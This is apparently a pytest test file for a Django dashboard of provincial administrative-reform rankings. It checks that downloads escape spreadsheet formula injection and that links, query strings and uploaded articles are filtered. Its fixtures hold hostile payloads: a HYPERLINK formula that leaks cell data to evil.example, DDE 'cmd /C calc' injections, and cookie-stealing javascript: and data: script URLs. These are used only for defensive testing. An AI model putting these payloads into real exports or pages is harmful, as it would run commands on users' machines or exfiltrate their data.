"""Hostile input from outside: formula payloads in every download, ``javascript:`` links at every door
and in every rendering, control characters in query strings and uploaded articles, a folder of bad
article files. The same answers on SQLite and PostgreSQL (CI runs this file on both)."""

from __future__ import annotations

import csv
import io
import json
import re
from io import StringIO

import pytest
from django.core.management import CommandError, call_command
from django.core.management.base import SystemCheckError
from django.template import Context, Template
from django.urls import reverse
from openpyxl import load_workbook

from provinces.inputs import is_http_url, safe_url
from reports.models import Citation, Edition, Result, SourceArticle, Status
from sources.intake import ingest_article

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=2+2",
]
EVIL = "javascript:alert(document.cookie)"


# --- downloads ---------------------------------------------------------------------------------------


@pytest.fixture
def poisoned(real_data):
    """Results stored before the import refused such text (or written by other means): a payload per row."""
    edition = Edition.objects.filter(
        status=Status.PUBLISHED, index__code="PAR_INDEX", year=2023, is_synthetic=False
    ).get()
    results = list(Result.objects.filter(edition=edition, score__isnull=False).order_by("pk")[: len(PAYLOADS)])
    assert len(results) == len(PAYLOADS)
    for result, payload in zip(results, PAYLOADS, strict=True):
        Result.objects.filter(pk=result.pk).update(group=payload)
    return reverse("dashboard:rankings") + "?index=PAR_INDEX&year=2023"


def test_the_csv_download_escapes_every_payload(client, poisoned):
    response = client.get(poisoned + "&format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        assert payload not in cells
        assert "'" + payload in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not _number(c)]  # negative numbers stay numbers


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def test_the_xlsx_download_holds_no_formula(client, poisoned):
    response = client.get(poisoned + "&format=xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert cell.value[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell.value
    for payload in PAYLOADS:
        assert "'" + payload in texts
    # numbers stay numbers, negative ones included
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    metric, value = rows[0].index("metric"), rows[0].index("value")
    changes = [row[value] for row in rows[1:] if row[metric] == "score_change" and row[value] is not None]
    assert changes and all(isinstance(v, int | float) for v in changes)


def test_the_json_download_keeps_the_text_as_stored(client, poisoned):
    data = json.loads(client.get(poisoned + "&format=json").content)
    groups = {row["value"] for row in data["rows"] if row["metric"] == "group"}
    assert set(PAYLOADS) <= groups


# --- links -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url, ok",
    [
        ("https://baochinhphu.vn/a.htm", True),
        ("http://example.org", True),
        (EVIL, False),
        ("JaVaScRiPt:alert(1)", False),
        (" javascript:alert(1)", False),
        ("data:text/html,<script>alert(1)</script>", False),
        ("vbscript:msgbox", False),
        ("//evil.example/x", False),
        ("https://ex\x00ample.org", False),
        ("ftp://example.org/a", False),
        ("", False),
    ],
)
def test_the_render_helper_lets_only_http_through(url, ok):
    assert is_http_url(url) is ok
    assert safe_url(url) == (url if ok else "")
    rendered = Template("{% load safe_links %}[{{ url|http_url }}]").render(Context({"url": url}))
    assert (rendered == "[]") is not ok


def test_ingest_refuses_a_javascript_link(real_data):
    before = SourceArticle.objects.count()
    with pytest.raises(ValueError, match="http"):
        ingest_article(text="Bài viết thử về cải cách hành chính.", url=EVIL)
    assert SourceArticle.objects.count() == before


def test_no_write_path_stores_a_javascript_link(real_data):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        SourceArticle.objects.create(url=EVIL, text="x")


@pytest.fixture
def curator_client(client, django_user_model, real_data):
    user = django_user_model.objects.create_superuser("bien.tap", "bt@example.org", "mat-khau-dai-9")
    client.force_login(user)
    return client


def test_the_admin_refuses_a_javascript_link_on_save_and_intake(curator_client):
    article = SourceArticle.objects.exclude(url="").first()
    url = reverse("admin:reports_sourcearticle_change", args=[article.pk])
    form = curator_client.get(url).context["adminform"].form
    data = {name: form[name].value() or "" for name in form.fields if name != "provinces"}
    data.update(url=EVIL, **_empty_inline("citations"))
    response = curator_client.post(url, data)
    assert response.status_code == 200  # the form again, with the error
    assert response.context["adminform"].form.errors["url"]  # "Nhập một URL hợp lệ" (http or https)
    article.refresh_from_db()
    assert article.url != EVIL

    before = SourceArticle.objects.count()
    response = curator_client.post(
        reverse("admin:reports_sourcearticle_add"), {"url": EVIL, "text": "Tỉnh công bố chỉ số cải cách hành chính."}
    )
    assert response.status_code == 200 and SourceArticle.objects.count() == before


def _empty_inline(prefix: str) -> dict:
    return {f"{prefix}-TOTAL_FORMS": "0", f"{prefix}-INITIAL_FORMS": "0", f"{prefix}-MAX_NUM_FORMS": "1000"}


def test_a_stored_javascript_link_is_never_rendered_and_the_data_check_reports_it(client, real_data):
    citation = (
        Citation.objects.filter(
            state=Citation.State.CONFIRMED,
            result__edition__status=Status.PUBLISHED,
            result__edition__is_synthetic=False,
            article__url__startswith="http",
        )
        .select_related("result__province", "result__edition__index", "article")
        .first()
    )
    article = citation.article
    SourceArticle.objects.filter(pk=article.pk).update(url=EVIL)  # as raw SQL or an old row would
    result = citation.result
    pages = [
        reverse("dashboard:article", args=[article.pk]),
        reverse("dashboard:province", args=[result.province.slug]) + f"?index={result.edition.index.code}",
        reverse("dashboard:rankings") + f"?index={result.edition.index.code}&year={result.edition.year}",
        reverse("dashboard:rankings") + f"?index={result.edition.index.code}&year={result.edition.year}&format=csv",
    ]
    for page in pages:
        response = client.get(page)
        assert response.status_code == 200, page
        # shown as text where it is the only name an article has, never as a link
        assert not re.search(rb"""(href|src|action)\s*=\s*["']?\s*javascript:""", response.content, re.I), page
    assert b"javascript:" not in client.get(pages[-1]).content  # the CSV's source column lists http(s) only
    with pytest.raises(SystemCheckError, match="not http"):
        call_command("check", "--database", "default", stdout=StringIO(), stderr=StringIO())


def test_every_page_carries_a_content_security_policy(client, real_data):
    for path in ["/", "/xep-hang/", "/bai-viet/", "/admin/login/", "/khong-co/"]:
        policy = client.get(path)["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
        assert "object-src 'none'" in policy and "frame-ancestors 'none'" in policy


# --- control characters and long values in query strings -----------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/so-sanh/?p=%00",
        "/so-sanh/?p=quang-ninh&p=a%00b",
        "/so-sanh/?them=B%E1%BA%A1c%00Li%C3%AAu",
        "/bai-viet/?q=%00",
        "/bai-viet/?province=%00",
        "/bai-viet/?q=c%E1%BA%A3i%01",
        "/xep-hang/?q=%00&year=2023",
        "/xep-hang/?group=%1b",
        "/tinh/quang-ninh/?index=%00",
        "/?index=" + "x" * 201,
        "/so-sanh/?them=" + "a" * 201,
        "/admin/reports/result/?q=%00",
        "/xep-hang/?a%00b=1",
    ],
)
def test_a_control_character_or_an_over_long_value_is_a_400_with_a_message(client, real_data, path):
    response = client.get(path)
    assert response.status_code == 400
    body = response.content.decode()
    assert "ký tự điều khiển" in body or "tối đa 200" in body


def test_a_search_at_the_limit_is_answered(client, real_data):
    assert client.get("/bai-viet/", {"q": "cải cách " * 22}).status_code == 200  # 198 characters


# --- uploaded articles and the ingest command ---------------------------------------------------------


def test_an_uploaded_html_article_with_a_nul_is_refused(curator_client):
    from django.core.files.uploadedfile import SimpleUploadedFile

    before = SourceArticle.objects.count()
    page = "<html><body><p>Chỉ số CCHC\x00 năm 2023 của tỉnh đạt 85,2 điểm.</p></body></html>".encode()
    response = curator_client.post(
        reverse("admin:reports_sourcearticle_add"), {"file": SimpleUploadedFile("bai.html", page)}
    )
    assert response.status_code == 200
    assert "ký tự điều khiển" in response.content.decode()
    assert SourceArticle.objects.count() == before


def test_article_text_keeps_tabs_and_line_breaks(real_data):
    article, created = ingest_article(text="Dòng một\tcột\r\nDòng hai về cải cách hành chính.\nDòng ba")
    assert created and "Dòng hai" in article.text and "\n" in article.text


def test_ingest_articles_stores_the_good_file_and_reports_each_bad_one(real_data, tmp_path):
    (tmp_path / "a-good.txt").write_text(
        "URL: https://example.org/cchc-tot\nDATE: 2024-05-02\n\nTỉnh thử nghiệm công bố kết quả cải cách hành chính.\n",
        encoding="utf-8",
    )
    (tmp_path / "b-bad-date.txt").write_text(
        "URL: https://example.org/ngay-sai\nDATE: 2024-13-45\n\nBài có ngày sai.\n", encoding="utf-8"
    )
    (tmp_path / "c-binary.html").write_bytes(bytes(range(256)) * 40)
    (tmp_path / "d-script.txt").write_text(f"URL: {EVIL}\n\nBài có liên kết độc hại.\n", encoding="utf-8")
    before = set(SourceArticle.objects.values_list("pk", flat=True))
    out, err = StringIO(), StringIO()
    with pytest.raises(CommandError, match="3 of 4 files refused"):
        call_command("ingest_articles", str(tmp_path), stdout=out, stderr=err)
    new = SourceArticle.objects.exclude(pk__in=before)
    assert [a.url for a in new] == ["https://example.org/cchc-tot"]
    report = err.getvalue()
    for name in ("b-bad-date.txt", "c-binary.html", "d-script.txt"):
        assert f"{name}: refused" in report
    assert "Traceback" not in report
    assert "1 created" in out.getvalue() and "3 refused" in out.getvalue()
